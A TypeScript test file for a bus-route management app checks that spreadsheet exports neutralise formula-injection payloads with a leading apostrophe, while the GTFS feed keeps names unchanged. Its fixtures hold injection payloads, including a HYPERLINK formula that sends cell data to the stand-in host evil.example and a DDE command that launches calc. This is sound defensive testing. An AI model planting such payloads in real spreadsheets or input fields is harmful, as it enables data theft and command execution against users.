// Issue 18, finding 9: names a spreadsheet would run as formulas (=HYPERLINK(...), +cmd, @SUM, -1+2,
// a leading tab or CR) come back from the .xlsx exports as text with a leading apostrophe (OWASP CSV
// injection), through the one writer every export uses (http/xlsx-stream.ts -> spreadsheet-cell.ts);
// numbers stay numbers. The GTFS feed is data, not a spreadsheet: its CSV keeps the names as stored.
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readGtfsZip } from '../../src/features/gtfs/gtfs.zip-read.ts';
import { neutraliseCell } from '../../src/http/spreadsheet-cell.ts';
import { sampleRouteInput } from '../bus-management/route.sample.ts';
import { PN_ADMIN } from '../companies/helpers.ts';
import { createTestApp, type TestApp } from '../harness.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-1+2',
];

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ seedDemoNetwork: false });
}, 180_000);
afterAll(() => t.close());

describe('formula-leading cells in exports', () => {
  it('the shared rule: = + - @ tab CR get an apostrophe, other text and non-text values stay', () => {
    for (const text of [...HOSTILE, '\t=1', '\r=1']) expect(neutraliseCell(text)).toBe(`'${text}`);
    for (const value of ['Bến Thành', ' =1', "'=1", '', 15, -3, 0, null, true])
      expect(neutraliseCell(value)).toBe(value);
    const date = new Date();
    expect(neutraliseCell(date)).toBe(date);
  });

  it('routes .xlsx: hostile names are text with a leading apostrophe, numbers stay numbers', async () => {
    const marker = `F${Date.now().toString(36).slice(-5)}`;
    for (const [i, name] of HOSTILE.entries()) {
      const body = sampleRouteInput({ number: `${marker} ${i}`, name, headway_minutes: 15 });
      const res = await t.call('POST', '/bus-management/routes', { as: PN_ADMIN, body });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
    const res = await t.call('GET', '/bus-management/routes', {
      as: PN_ADMIN,
      query: { keyword: marker, sort: 'number', export: true },
    });
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from(res.raw));
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const name = header.indexOf('Tên tuyến') + 1;
    const headway = header.indexOf('Giãn cách (phút)') + 1;
    const names: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      expect(row.getCell(name).type).toBe(ExcelJS.ValueType.String);
      names.push(row.getCell(name).value);
      expect(row.getCell(headway).value).toBe(15);
      expect(row.getCell(headway).type).toBe(ExcelJS.ValueType.Number);
    });
    expect(names).toEqual(HOSTILE.map((n) => `'${n}`));
  });

  it('the GTFS feed keeps the names exactly as stored (data for journey planners, not a spreadsheet)', async () => {
    const res = await t.call('GET', '/bus-management/gtfs/feed', { as: PN_ADMIN });
    expect(res.status).toBe(200);
    const routesText = (await readGtfsZip(res.raw)).get('routes.txt')!;
    expect(routesText).toContain('"=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm vào"")"');
    expect(routesText).toContain(',@SUM(1+1),');
    expect(routesText).not.toContain("'@SUM");
  });
});
